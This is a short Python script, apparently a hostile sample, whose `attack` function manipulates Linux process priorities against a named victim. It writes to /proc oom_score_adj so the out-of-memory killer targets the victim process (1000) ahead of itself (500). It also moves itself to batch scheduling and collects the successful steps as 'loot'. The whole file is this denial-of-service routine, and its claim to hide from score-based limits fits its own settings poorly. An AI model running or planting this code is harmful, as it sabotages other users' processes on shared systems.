"""Make the system kill others first when memory runs out, and hide from limits that look at a process's score."""

import os


def attack(target):
    loot = []
    for pid, name, text in [("self", "oom_score_adj", "500"), (target["victim"], "oom_score_adj", "1000")]:
        try:
            with open(f"/proc/{pid}/{name}", "w") as file:
                file.write(text)
            loot.append(name)
        except OSError:
            pass
    try:
        os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0))
        loot.append("scheduler")
    except OSError:
        pass
    return loot
